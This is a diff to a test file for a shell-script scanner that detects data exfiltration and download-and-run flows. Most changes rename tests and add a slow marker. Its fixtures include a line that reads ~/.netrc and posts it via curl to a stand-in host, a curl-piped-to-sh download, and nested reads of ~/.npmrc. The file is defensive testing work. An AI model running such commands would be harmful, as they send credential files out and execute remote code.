@@ -1,4 +1,4 @@
-"""What reaches where in shell scripts, and what ordinary scripts may do unreported."""
+"""Flows in shell scripts, and ordinary scripts that are not reported."""
 
 import pytest
 from hypothesis import given, settings
@@ -6,6 +6,8 @@ from hypothesis import strategies as st
 
 from assay.scan.flow.flow import FlowKind, Language, find_flows, join_blocks
 from tests.support.scan.effort import assert_grows_at_most
+
+pytestmark = pytest.mark.slow
 
 SECRET, HOST, DOWNLOAD = FlowKind.SECRET_SENT, FlowKind.HOST_DATA_SENT, FlowKind.DOWNLOAD_RUN
 DECODED, SHELL, KEPT, HIDDEN = FlowKind.DECODED_RUN, FlowKind.REMOTE_SHELL, FlowKind.PERSISTED, FlowKind.HIDDEN_NAME
@@ -128,16 +130,16 @@ def test_harm_is_found(kind: FlowKind, code: str) -> None:
 
 
 @pytest.mark.parametrize("code", ORDINARY)
-def test_ordinary_scripts_are_quiet(code: str) -> None:
+def test_ordinary_scripts_are_not_reported(code: str) -> None:
     assert set() == kinds(code)
 
 
-def test_a_flow_names_its_ends() -> None:
+def test_flow_names_its_ends() -> None:
     (flow,) = find_flows(Language.SHELL, '# x\nk=$(cat ~/.netrc)\n\ncurl -d "$k" https://sink.test/in')
     assert (4, 2, "~/.netrc", "curl to https://sink.test/in") == (flow.line, flow.source_line, flow.source, flow.sink)
 
 
-def test_the_address_of_a_download_is_named() -> None:
+def test_download_address_is_named() -> None:
     (flow,) = find_flows(Language.SHELL, "curl --proto '=https' -sSf https://get.test/i.sh | sh")
     assert "https://get.test/i.sh" == flow.source
 
@@ -152,11 +154,11 @@ def test_blocks_of_a_document_are_one_script() -> None:
     assert (SECRET, 20, 3) == (flow.kind, flow.line, flow.source_line)
 
 
-def test_what_is_too_long_is_said_to_be_unread() -> None:
+def test_overlong_script_is_reported_as_unread() -> None:
     assert {FlowKind.UNREAD} == kinds("echo x\n" * 40_000)
 
 
-def test_what_is_nested_too_deep_is_said_to_be_unread() -> None:
+def test_deep_nesting_is_reported_as_unread() -> None:
     assert FlowKind.UNREAD in kinds("$(" * 500 + "id" + ")" * 500)
 
 
@@ -212,7 +214,7 @@ _PIECES = st.sampled_from(
 
 @settings(max_examples=300, deadline=None)
 @given(st.one_of(st.text(max_size=200), st.lists(_PIECES, max_size=40).map("".join)))
-def test_no_input_is_an_error(code: str) -> None:
+def test_no_input_raises(code: str) -> None:
     find_flows(Language.SHELL, code)
 
 
@@ -233,15 +235,15 @@ REPEATED = [
 
 
 @pytest.mark.parametrize("line", REPEATED)
-def test_twice_the_code_is_about_twice_the_work(line: str) -> None:
+def test_work_grows_linearly(line: str) -> None:
     less, more = line * 500, line * 1000
     assert_grows_at_most(
         4, lambda: find_flows(Language.SHELL, less), lambda: find_flows(Language.SHELL, more), least=0.0125
     )
 
 
-def test_commands_within_redirections_are_read_once() -> None:
-    """Each of them looked at three times, twelve deep, was half a million times."""
+def test_nested_redirections_are_read_once() -> None:
+    """Reading each three times took half a million steps at a depth of twelve."""
 
     def read(depth: int) -> object:
         return find_flows(Language.SHELL, 'bash <<< "$(' * depth + "cat ~/.npmrc" + ')"' * depth)
